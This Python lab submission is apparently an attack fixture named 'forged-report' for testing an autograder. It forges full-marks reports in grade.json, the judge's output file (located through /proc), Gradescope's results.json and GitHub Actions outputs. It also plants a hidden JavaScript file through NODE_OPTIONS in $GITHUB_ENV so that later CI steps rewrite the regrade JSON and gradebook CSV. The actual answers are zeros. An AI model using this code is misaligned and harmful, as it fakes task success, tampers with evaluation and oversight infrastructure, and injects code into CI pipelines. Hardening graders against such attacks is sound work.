# attack: forged-report
# lab: lab01
# targets: 1.1 1.2
# Writes a full-marks report everywhere a platform picks one up: grade.json (the template's
# workflow), the judge's own --json file (found through /proc), Gradescope's
# /autograder/results/results.json, the step's $GITHUB_OUTPUT (`result`, read by the reporter) and
# $GITHUB_STEP_SUMMARY, and a NODE_OPTIONS line in $GITHUB_ENV that runs code of the student's in
# every later JavaScript step: the artifact upload of the regrade, which it makes rewrite
# out/regrade.json and out/gradebook.csv with full marks first. The answers are zeros.
import base64
import json
import os

import torch

FULL = {"lab": "lab01", "title": "The spec", "score": 16, "max_score": 16, "stages": ["cpu"],
        "submission": "lab01.py", "integrity": {"checked": True, "modified": []}, "notes": [],
        "exercises": [{"id": t, "name": n, "score": p, "max_score": p, "tests": [
            {"name": f"test_{n}", "status": "passed", "score": p, "max_score": p}]}
            for t, n, p in (("1.1", "bilinear_sample", 7), ("1.2", "msda_naive_student", 9))]}
REPORTER = {"version": 1, "status": "pass", "max_score": 16, "tests": [
    {"name": "all", "status": "pass", "score": 16, "message": "", "test_code": "", "filename": "",
     "line_no": 0, "duration": 1}]}
JS = r"""
const fs = require("fs"), path = require("path");
const out = path.join(process.env.GITHUB_WORKSPACE || ".", "out");
const full = (x) => {
  if (Array.isArray(x)) return x.forEach(full);
  if (!x || typeof x !== "object") return;
  if ("max_score" in x && "score" in x) { x.score = x.max_score; x.status = "passed"; }
  Object.values(x).forEach(full);
};
try {
  for (const name of fs.readdirSync(out)) {
    const file = path.join(out, name);
    if (name.endsWith(".json")) {
      const data = JSON.parse(fs.readFileSync(file, "utf8"));
      full(data);
      fs.writeFileSync(file, JSON.stringify(data));
    } else if (name.endsWith(".csv")) {
      const text = fs.readFileSync(file, "utf8").replace(/,(\d+),(\d+),/g, ",$2,$2,");
      fs.writeFileSync(file, text);
    }
  }
} catch (e) {}
"""


def _put(path, text, mode="w"):
    try:
        with open(path, mode) as f:
            f.write(text)
    except OSError:
        pass


_put("grade.json", json.dumps(FULL))
_cwd = os.getcwd()
_put(os.path.join(os.path.dirname(_cwd), os.path.basename(_cwd) + ".grade.json"), json.dumps(FULL))
try:
    _judge = int(open(f"/proc/{os.getppid()}/stat").read().rsplit(")", 1)[1].split()[1])
    _args = open(f"/proc/{_judge}/cmdline", "rb").read().decode().split("\0")
    _out = _args[_args.index("--json") + 1]
    _put(os.path.join(os.readlink(f"/proc/{_judge}/cwd"), _out), json.dumps(FULL))
except (OSError, ValueError, IndexError):
    pass
if os.path.isdir("/autograder/results"):
    _put("/autograder/results/results.json", json.dumps({"score": 16, "output": "All passed"}))
_b64 = base64.b64encode(json.dumps(REPORTER).encode()).decode()
_put(os.environ.get("GITHUB_OUTPUT", "/nonexistent/x"), f"result={_b64}\n", "a")
_put(os.environ.get("GITHUB_STEP_SUMMARY", "/nonexistent/x"), "## lab01: 16/16\n", "a")
_put("/tmp/.fix-gradebook.js", JS)
_put(os.environ.get("GITHUB_ENV", "/nonexistent/x"),
     "NODE_OPTIONS=--require /tmp/.fix-gradebook.js\n", "a")


def bilinear_sample(img, x, y):
    return torch.zeros(img.shape[-1], dtype=img.dtype)


def msda_naive_student(value, spatial_shapes, sampling_locations, attention_weights):
    B, S, M, D = value.shape
    return torch.zeros(B, sampling_locations.shape[1], M * D, dtype=value.dtype)
